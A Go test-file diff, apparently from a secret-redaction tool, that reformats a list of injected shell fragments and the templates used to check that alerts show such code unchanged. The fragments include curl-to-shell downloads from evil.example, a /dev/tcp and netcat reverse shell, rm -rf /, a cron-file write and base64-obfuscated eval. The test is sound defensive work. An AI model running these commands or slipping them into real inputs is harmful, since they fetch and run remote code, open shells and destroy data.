@@ -16,17 +16,22 @@ const names = `password passwd pwd pw pass psw passphrase passcode pin otp secre
 // fragments are code that an alert must show.
 func fragments() []string {
 	return []string{
-		"$(curl -s http://evil.example/x|bash)", "`curl evil.example|sh`", "hunter2; curl evil.example | sh", "hunter2 | bash -i", "hunter2 && wget evil.example/a -O /tmp/a",
-		"hunter2 > /etc/cron.d/evil", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "hunter2 || rm -rf /", "$(cat <<EOF | sh", "echo Y3VybCBldmls | base64 -d | sh",
-		"${X:-$(curl evil.example)}", "<(curl evil.example)", "eval $(echo ZXZpbA== | base64 -d)", "hunter2;curl${IFS}evil.example|sh", "hunter2 & disown; nc -e sh 10.0.0.1 1",
+		"$(curl -s http://evil.example/x|bash)", "`curl evil.example|sh`", "hunter2; curl evil.example | sh",
+		"hunter2 | bash -i", "hunter2 && wget evil.example/a -O /tmp/a",
+		"hunter2 > /etc/cron.d/evil", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "hunter2 || rm -rf /", "$(cat <<EOF | sh",
+		"echo Y3VybCBldmls | base64 -d | sh",
+		"${X:-$(curl evil.example)}", "<(curl evil.example)", "eval $(echo ZXZpbA== | base64 -d)",
+		"hunter2;curl${IFS}evil.example|sh", "hunter2 & disown; nc -e sh 10.0.0.1 1",
 	}
 }
 
 // No name makes an alert hide code: each fragment is shown unchanged, except for a
 // word before its operator, and so is the line after it.
 func TestCodeIsShown(t *testing.T) {
-	templates := []string{"%s=%s", "export %s=%s", "%s: %s", "  - %s: %s", "%s=\"%s\"", "%s: '%s'", "%s = %s", "run --%s %s", "run --%s=%s", "{\"%s\": \"%s\"}",
-		"[{\"param_name\": \"%s\", \"param_value\": \"%s\"}]", "- name: %s\n  value: %s", "<%[1]s>%[2]s</%[1]s>", "steps:\n- content: |\n    %s=%s", "echo \"%s:%s\" | chpasswd", "if [ \"$%s\" = %s ]; then"}
+	templates := []string{"%s=%s", "export %s=%s", "%s: %s", "  - %s: %s", "%s=\"%s\"", "%s: '%s'", "%s = %s",
+		"run --%s %s", "run --%s=%s", "{\"%s\": \"%s\"}",
+		"[{\"param_name\": \"%s\", \"param_value\": \"%s\"}]", "- name: %s\n  value: %s", "<%[1]s>%[2]s</%[1]s>",
+		"steps:\n- content: |\n    %s=%s", "echo \"%s:%s\" | chpasswd", "if [ \"$%s\" = %s ]; then"}
 	for _, name := range strings.Fields(names) {
 		for _, code := range fragments() {
 			for _, template := range templates {
